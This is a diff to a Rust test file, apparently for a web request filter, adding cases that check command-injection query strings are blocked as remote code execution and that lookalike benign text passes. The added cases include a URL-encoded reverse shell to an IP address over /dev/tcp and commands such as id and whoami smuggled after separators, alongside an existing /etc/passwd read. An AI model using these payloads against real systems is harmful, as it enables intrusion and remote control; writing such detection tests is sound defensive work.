@@ -41,6 +41,15 @@ fn query_attacks_are_blocked() {
         Some(Family::Lfi)
     );
     assert!(blocked("/api/x?host=a;cat%20/etc/passwd", vec![], b"").is_some());
+    // a command run in a subshell or group after a separator
+    for q in [
+        "/api/x?d=/dev%26%26(sh)0%3E$d/tcp/51.15.142.164/777",
+        "/api/x?host=x;(id)",
+        "/api/x?host=a%7C(whoami)",
+        "/api/x?host=a;%7B%20ls%20-la;%20%7D",
+    ] {
+        assert_eq!(blocked(q, vec![], b""), Some(Family::Rce), "{q}");
+    }
 }
 
 #[test]
@@ -338,6 +347,8 @@ fn values_next_to_the_evasion_rules_pass() {
         "/api/tasks?q=while+(i+%3C+10)+and+process+%5Benv%5D",
         "/api/tasks?q=background%3A+url(javascript.png)",
         "/api/tasks?q=x+%3D+a+%2B+b%3B+y+%3D+c",
+        "/api/tasks?q=the+sum%3B+(see+below)",
+        "/api/tasks?q=fix+it%3B+(soon)+and+%7Bdone%7D",
     ] {
         assert_eq!(blocked(q, vec![], b""), None, "{q}");
     }
